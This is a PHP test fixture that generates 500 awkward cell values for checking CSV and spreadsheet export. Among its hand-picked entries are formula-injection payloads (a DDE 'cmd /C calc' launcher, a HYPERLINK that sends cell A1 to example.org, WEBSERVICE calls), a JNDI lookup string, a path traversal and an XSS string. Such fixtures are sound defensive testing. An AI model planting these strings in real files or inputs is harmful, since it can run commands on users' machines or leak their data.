<?php

declare(strict_types=1);

namespace Latchkey\Tests\Transfer;

/**
 * Texts that CSV files and spreadsheets spoil: 500 of them, all different.
 */
final class NastyCells
{
    private const COUNT = 500;

    /**
     * @return non-empty-list<string>
     */
    public static function all(): array
    {
        $cells = self::chosen();
        // The rest by chance, but the same in every run.
        mt_srand(18);
        $parts = ['=', '+', '-', '@', "\t", "\r", "\n", "\r\n", "'", '"', ',', ';', '|', ' ', '0', '7', 'A', 'é', 'ש', '🔑', '\\', '""', "'=", '=1+1', "\u{200D}", "\u{FEFF}"];
        while (count($cells) < self::COUNT) {
            $cell = '';
            for ($length = mt_rand(1, 9); $length > 0; $length--) {
                $cell .= $parts[mt_rand(0, count($parts) - 1)];
            }
            $cells[] = $cell;
            $cells = array_values(array_unique($cells));
        }
        mt_srand();
        return $cells;
    }

    /**
     * @return non-empty-list<string>
     */
    private static function chosen(): array
    {
        $block = "-----BEGIN RSA PRIVATE KEY-----\r\nVGhpcyBpcyBubyBrZXkgb2YgYW55Ym9keS4gSXQgaXMgdGV4dC/+Li4uLi4uLi4u\r\n-----END RSA PRIVATE KEY-----";
        return [
            '', ' ', '  leading', 'trailing  ', "\t", "\r", "\n", "'", "''", "'''", '"', '""', '"""', ',', ';', '|', '\\', '\\"', '\\n', "'=1", "''=1",
            '=1+1', '=1+1;2', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://example.org/?x="&A1,"Click")', '=WEBSERVICE("http://example.org/")', '=IMPORTXML("http://example.org","//a")',
            '+1', '+44 20 7946 0958', '+SUM(A1:A9)', '-1', '-2+3', '-----', '@SUM(1,1)', '@user', "\t=1+1", "\r=1+1", '=', '+', '-', '@', '=-1', '==', '=+', "='",
            '007', '00000000000000000001', '1e5', '1E10', '3-4', 'MAR-1', '1/2', '12345678901234567890', '0x1F', 'TRUE', 'NULL', 'NaN', '#N/A', '#REF!', '1,000', '1.000,00', '12:30', '2027-01-01',
            $block, str_replace("\r\n", "\n", $block), str_replace("\r\n", "\r", $block), $block . "\r\n\r\n" . $block, "line\nline", "line\r\nline", "line\rline", "ends\n", "ends\r\n", "\nbegins", "\r\nbegins",
            "a,\"b\"\r\nc;d", '"quoted"', '"half', 'half"', '""=1""', '","', '";"', "\"\r\n\"", 'מפתח', 'مفتاح', "\u{202E}txt.exe", "\u{200F}=1", "\u{2066}x\u{2069}", '🔑', '👩‍👩‍👧', '🇩🇪', 'e' . "\u{301}", 'é', "\u{FEFF}x",
            "\u{A0}x\u{A0}", "\u{2028}", 'ＡＢＣ', '＝1+1', '日本語', 'Ω≈ç√∫', 'ﬁ', 'ẞ', '<script>alert(1)</script>', '&amp;', '{"a":1}', '[1]', '%0A', '%3D1', '${jndi:ldap://x}', '../../etc/passwd', 'DDE("cmd";"/C calc";"x")', '|calc', '!A1',
            str_repeat('x', 4000), str_repeat('"', 999), str_repeat("=\r\n", 500), str_repeat('🔑', 900),
        ];
    }
}
